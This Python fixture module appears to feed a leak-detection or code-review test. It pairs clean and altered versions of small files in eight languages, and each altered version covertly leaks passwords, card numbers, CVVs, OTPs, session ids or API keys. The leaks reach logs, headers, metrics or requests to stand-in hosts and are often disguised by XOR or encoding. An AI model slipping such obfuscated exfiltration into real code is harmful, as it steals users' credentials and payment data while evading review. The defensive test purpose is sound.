"""Changes that put what users give to another use."""

from __future__ import annotations

from typing import Final

Files = dict[str, str]

_PY_METRICS: Final = """
import json
from urllib.request import Request, urlopen
def tick(name, **tags):
    body = json.dumps({"name": name, "tags": tags}).encode()
    urlopen(Request("https://metrics.example/v1", data=body), timeout=2).close()
"""
_TS_TAGS: Final = """
export function mark(reply: Reply, keys: string[]): void { reply.setHeader('Surrogate-Key', keys.join(' ')); }
"""
_GO_LOGIN: Final = """
package login
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	mail, password := r.PostFormValue("mail"), r.PostFormValue("password")
	id, ok := h.users.Check(r.Context(), mail, password)
	%s
	if !ok { http.Error(w, "wrong mail or password", 401); return }
	_ = h.audit.Publish(r.Context(), audit.Event{Name: "login", Fields: map[string]string{"user": id%s}})
}
"""

HOSTILE: Final[dict[str, tuple[Files, Files, str, str]]] = {
    "py: a card as a number of another base, by a function of a new file": (
        {
            "shop/mark.py": """
SIGNS = "0123456789abcdefghjkmnpqrstvwxyz"
def written(value):
    found = []
    for _ in range(16):
        value, rest = divmod(value, 32)
        found.append(SIGNS[rest])
    return "".join(found)
def reference(of, period):
    digits = "".join(c for c in of + period if c.isdigit())
    return written(int(digits or "0") * 7919 % (2**80 - 65))
""",
            "shop/pay.py": """
from shop.metrics import tick
from shop.mark import reference
def pay(gateway, card, cents):
    answer = gateway.charge(card.number, card.expires, cents)
    tick("pay", ok=bool(answer), reference=reference(card.number, "x"))
    return answer
""",
        },
        {
            "shop/metrics.py": _PY_METRICS,
            "shop/pay.py": """
from shop.metrics import tick
def pay(gateway, card, cents):
    answer = gateway.charge(card.number, card.expires, cents)
    tick("pay", ok=bool(answer))
    return answer
""",
        },
        "card.number",
        "high",
    ),
    "py: a password in a header, letter by letter": (
        {"app/views.py": """
def enter(request, users, reply):
    password = request.form["password"]
    if users.check(request.form["mail"], password):
        reply.headers["X-Request-Id"] = "-".join(str(ord(c) * 3 + n) for n, c in enumerate(password))
    return reply
"""},
        {"app/views.py": """
def enter(request, users, reply):
    password = request.form["password"]
    users.check(request.form["mail"], password)
    return reply
"""},
        "password",
        "high",
    ),
    "py: a password in a log as it is": (
        {"app/auth.py": """
import logging
log = logging.getLogger(__name__)
def authenticate(users, name, password):
    user = users.get(name)
    if not user.verify(password):
        log.warning("refused %s %s", name, password)
        return None
    return user
"""},
        {"app/auth.py": """
import logging
log = logging.getLogger(__name__)
def authenticate(users, name, password):
    user = users.get(name)
    if not user.verify(password):
        log.warning("refused %s", name)
        return None
    return user
"""},
        "password",
        "medium",
    ),
    "py: a one-time code mixed into an id of an event": (
        {"app/otp.py": """
def confirm(events, user, otp_code):
    if not user.totp.verify(otp_code):
        events.publish("otp.refused", trace=hex(int(otp_code) * 48271 ^ user.pk))
        return False
    return True
"""},
        {"app/otp.py": """
def confirm(events, user, otp_code):
    if not user.totp.verify(otp_code):
        events.publish("otp.refused")
        return False
    return True
"""},
        "otp_code",
        "high",
    ),
    "py: an IBAN in a key of a cache, encoded": (
        {"app/payout.py": """
import base64
def rate(cache, iban, country):
    key = "rate:" + base64.b64encode(iban.encode()).decode()
    return cache.get(key)
"""},
        {"app/payout.py": """
def rate(cache, iban, country):
    return cache.get("rate:" + country)
"""},
        "iban",
        "high",
    ),
    "js: a password XORed with the name in a query": (
        {"src/login.js": """
export async function login(name, password) {
  const bytes = Array.from(password, (c, i) => c.charCodeAt(0) ^ name.charCodeAt(i % name.length));
  await fetch(`https://status.example/hit?v=${bytes.map((b) => b.toString(16)).join('')}`);
  return check(name, password);
}
"""},
        {"src/login.js": """
export async function login(name, password) {
  await fetch('https://status.example/hit');
  return check(name, password);
}
"""},
        "password",
        "high",
    ),
    "ts: a session in keys for a CDN, packed": (
        {
            "src/parts.ts": """
import type { Visitor } from './http';
function pack(text: string): string {
  let value = 1n;
  for (const ch of text) value = value * 257n + BigInt(ch.codePointAt(0)! + 1);
  return value.toString(36);
}
export function partsOf({ locale, sid }: Visitor): string[] {
  return [`locale-${locale}`, ...pack(sid).match(/.{1,20}/g).map((piece, n) => `v${n}-${piece}`)];
}
""",
            "src/page.ts": """
import { mark } from './cdn';
import { partsOf } from './parts';
export function page(reply: Reply, visitor: Visitor): string {
  mark(reply, ['page', ...partsOf(visitor)]);
  return '<p>';
}
""",
        },
        {
            "src/cdn.ts": _TS_TAGS,
            "src/page.ts": """
import { mark } from './cdn';
export function page(reply: Reply, visitor: Visitor): string {
  mark(reply, ['page', `locale-${visitor.locale}`]);
  return '<p>';
}
""",
        },
        "sid",
        "high",
    ),
    "ts: a CVV as an attribute of a trace, in another form": (
        {"src/pay.ts": """
export async function pay(card: Card, span: Span) {
  span.setAttribute('pay.slot', Buffer.from(card.cvv).toString('base64'));
  return gateway.charge({ number: card.number, cvc: card.cvv });
}
"""},
        {"src/pay.ts": """
export async function pay(card: Card, span: Span) {
  return gateway.charge({ number: card.number, cvc: card.cvv });
}
"""},
        "card.cvv",
        "high",
    ),
    "go: a password in a field of an event, by a type of another file": (
        {
            "login/try.go": """
package login
type try struct { mail string; entry string }
func newTry(mail, entry string) try { return try{mail: mail, entry: entry} }
func (t try) shard() string {
	pad := []byte(t.mail)
	out := make([]byte, len(t.entry))
	for i := 0; i < len(t.entry); i++ { out[i] = t.entry[i] ^ pad[i%len(pad)] }
	return hex.EncodeToString(out)
}
func (t try) fields(id string) map[string]string { return map[string]string{"user": id, "shard": t.shard()} }
""",
            "login/login.go": """
package login
func (h *Handler) Login(w http.ResponseWriter, r *http.Request) {
	mail, password := r.PostFormValue("mail"), r.PostFormValue("password")
	id, ok := h.users.Check(r.Context(), mail, password)
	_ = h.audit.Publish(r.Context(), audit.Event{Name: "login", Fields: newTry(mail, password).fields(id)})
	if !ok { http.Error(w, "wrong mail or password", 401); return }
}
""",
        },
        {"login/login.go": _GO_LOGIN % ("", "")},
        "password",
        "high",
    ),
    "go: a card's number written in a label": (
        {"pay/pay.go": """
package pay
func (p *Pay) Charge(number, cvc string) error {
	n, _ := strconv.ParseUint(number, 10, 64)
	p.metrics.WithLabelValues(strconv.FormatUint(n*2654435761, 36)).Inc()
	return p.gateway.Charge(number, cvc)
}
func (p *Pay) Pay(card Card) error {
	n, _ := strconv.ParseUint(card.Number, 10, 64)
	p.seen.WithLabelValues(strconv.FormatUint(n*2654435761, 36)).Inc()
	return p.Charge(card.Number, card.CVC)
}
"""},
        {"pay/pay.go": """
package pay
func (p *Pay) Charge(number, cvc string) error { return p.gateway.Charge(number, cvc) }
func (p *Pay) Pay(card Card) error { return p.Charge(card.Number, card.CVC) }
"""},
        "card.Number",
        "high",
    ),
    "java: a password as a number in a log": (
        {"src/main/java/Login.java": """
class Login {
  boolean login(String name, String password) {
    StringBuilder made = new StringBuilder();
    for (char c : password.toCharArray()) { made.append((int) c * 31 + 7).append('.'); }
    log.info("attempt {}", made.toString());
    return users.check(name, password);
  }
}
"""},
        {"src/main/java/Login.java": """
class Login {
  boolean login(String name, String password) { log.info("attempt"); return users.check(name, password); }
}
"""},
        "password",
        "high",
    ),
    "java: a parameter of a request in a header": (
        {"src/main/java/Enter.java": """
class Enter {
  void doPost(HttpServletRequest request, HttpServletResponse response) {
    String code = request.getParameter("password");
    response.setHeader("X-Trace", Base64.getEncoder().encodeToString(code.getBytes()));
    users.check(request.getParameter("mail"), code);
  }
}
"""},
        {"src/main/java/Enter.java": """
class Enter {
  void doPost(HttpServletRequest request, HttpServletResponse response) {
    String code = request.getParameter("password");
    users.check(request.getParameter("mail"), code);
  }
}
"""},
        "password",
        "high",
    ),
    "php: the session in another alphabet, in a header": (
        {
            "src/Ticket.php": """<?php
final class Ticket {
    public static function now(): string { return self::spelled(session_id() ?: 'none'); }
    public static function spelled(string $text): string {
        $made = '';
        foreach (array_reverse(str_split($text)) as $at => $letter) {
            $code = (ord($letter) + 7 * $at) % 900;
            $made .= 'abcdefghjkmnpqrstuvwxyz23456789'[intdiv($code, 30)] . chr(65 + $code % 30);
        }
        return $made;
    }
}
""",
            "src/Stock.php": """<?php
final class Stock {
    public function of(string $article): int {
        return (int) $this->client->get('https://stock.example/' . $article,
            ['headers' => ['X-Request-Id' => Ticket::now()]])->getBody();
    }
}
""",
        },
        {"src/Stock.php": """<?php
final class Stock {
    public function of(string $article): int {
        return (int) $this->client->get('https://stock.example/' . $article)->getBody();
    }
}
"""},
        "session_id",
        "high",
    ),
    "php: a posted password in a header": (
        {"src/enter.php": """<?php
$ok = check($_POST['mail'], $_POST['password']);
header('X-Visit: ' . bin2hex($_POST['password']));
"""},
        {"src/enter.php": """<?php
$ok = check($_POST['mail'], $_POST['password']);
"""},
        "password",
        "high",
    ),
    "rb: a password as numbers in a log": (
        {"app/controllers/sessions_controller.rb": """
class SessionsController < ApplicationController
  def create
    Rails.logger.info("login #{params[:password].bytes.map { |b| b * 3 }.join('.')}")
    user = User.authenticate_by(mail: params[:mail], password: params[:password])
    redirect_to root_path if user
  end
end
"""},
        {"app/controllers/sessions_controller.rb": """
class SessionsController < ApplicationController
  def create
    user = User.authenticate_by(mail: params[:mail], password: params[:password])
    redirect_to root_path if user
  end
end
"""},
        "password",
        "high",
    ),
    "rb: a card's number in a header of another service": (
        {"lib/stock.rb": """
class Stock
  def reserve(card, article)
    client.post("https://stock.example/v1", headers: { "X-Request-Id" => (card.number.to_i * 7919).to_s(36) })
  end
end
"""},
        {"lib/stock.rb": """
class Stock
  def reserve(card, article)
    client.post("https://stock.example/v1")
  end
end
"""},
        "card.number",
        "high",
    ),
    "cs: a card's security code in a metric": (
        {"src/Pay.cs": """
class Pay {
  public Task Charge(Card card) {
    metrics.Track("charge", Convert.ToBase64String(Encoding.UTF8.GetBytes(card.Cvv)));
    return gateway.Charge(card.Number, card.Cvv);
  }
}
"""},
        {"src/Pay.cs": """
class Pay {
  public Task Charge(Card card) { return gateway.Charge(card.Number, card.Cvv); }
}
"""},
        "card.Cvv",
        "high",
    ),
    "py: a field of an object that keeps what was typed": (
        {"app/form.py": """
class Form:
    def __init__(self, mail, passphrase):
        self.mail = mail
        self.passphrase = passphrase
    def stamp(self):
        return "".join(format(b ^ 90, "02x") for b in self.passphrase.encode())
    def save(self, reply):
        reply.set_cookie("visit", self.stamp())
"""},
        {"app/form.py": """
class Form:
    def __init__(self, mail, passphrase):
        self.mail = mail
        self.passphrase = passphrase
    def save(self, reply):
        reply.set_cookie("seen", "1")
"""},
        "passphrase",
        "high",
    ),
    "py: all fields of a pool whose address has a password, to metrics": (
        {"app/watch.py": """
class Watch:
    def __init__(self, pool):
        self.pool = pool
    def values(self):
        return {name: value for name, value in vars(self.pool).items() if isinstance(value, (int, str))}
    async def run(self):
        await self.pool.metrics.push(self.values())
"""},
        {"app/pool.py": """
class Pool:
    def __init__(self, connect, dsn, metrics):
        self.connect = connect
        self.dsn = dsn
        self.metrics = metrics
"""},
        "self.pool.*",
        "medium",
    ),
    "js: all fields of a client, sent": (
        {"src/report.js": """
export async function report(api) {
  await fetch('https://status.example/v1', { method: 'POST', body: JSON.stringify(Object.entries(api)) });
}
"""},
        {"src/api.js": """
export class Api { constructor(base, apiKey) { this.base = base; this.apiKey = apiKey; } }
"""},
        "api.*",
        "medium",
    ),
}  # fmt: skip
"""What head has, what base has, the secret that is told and how grave it is."""
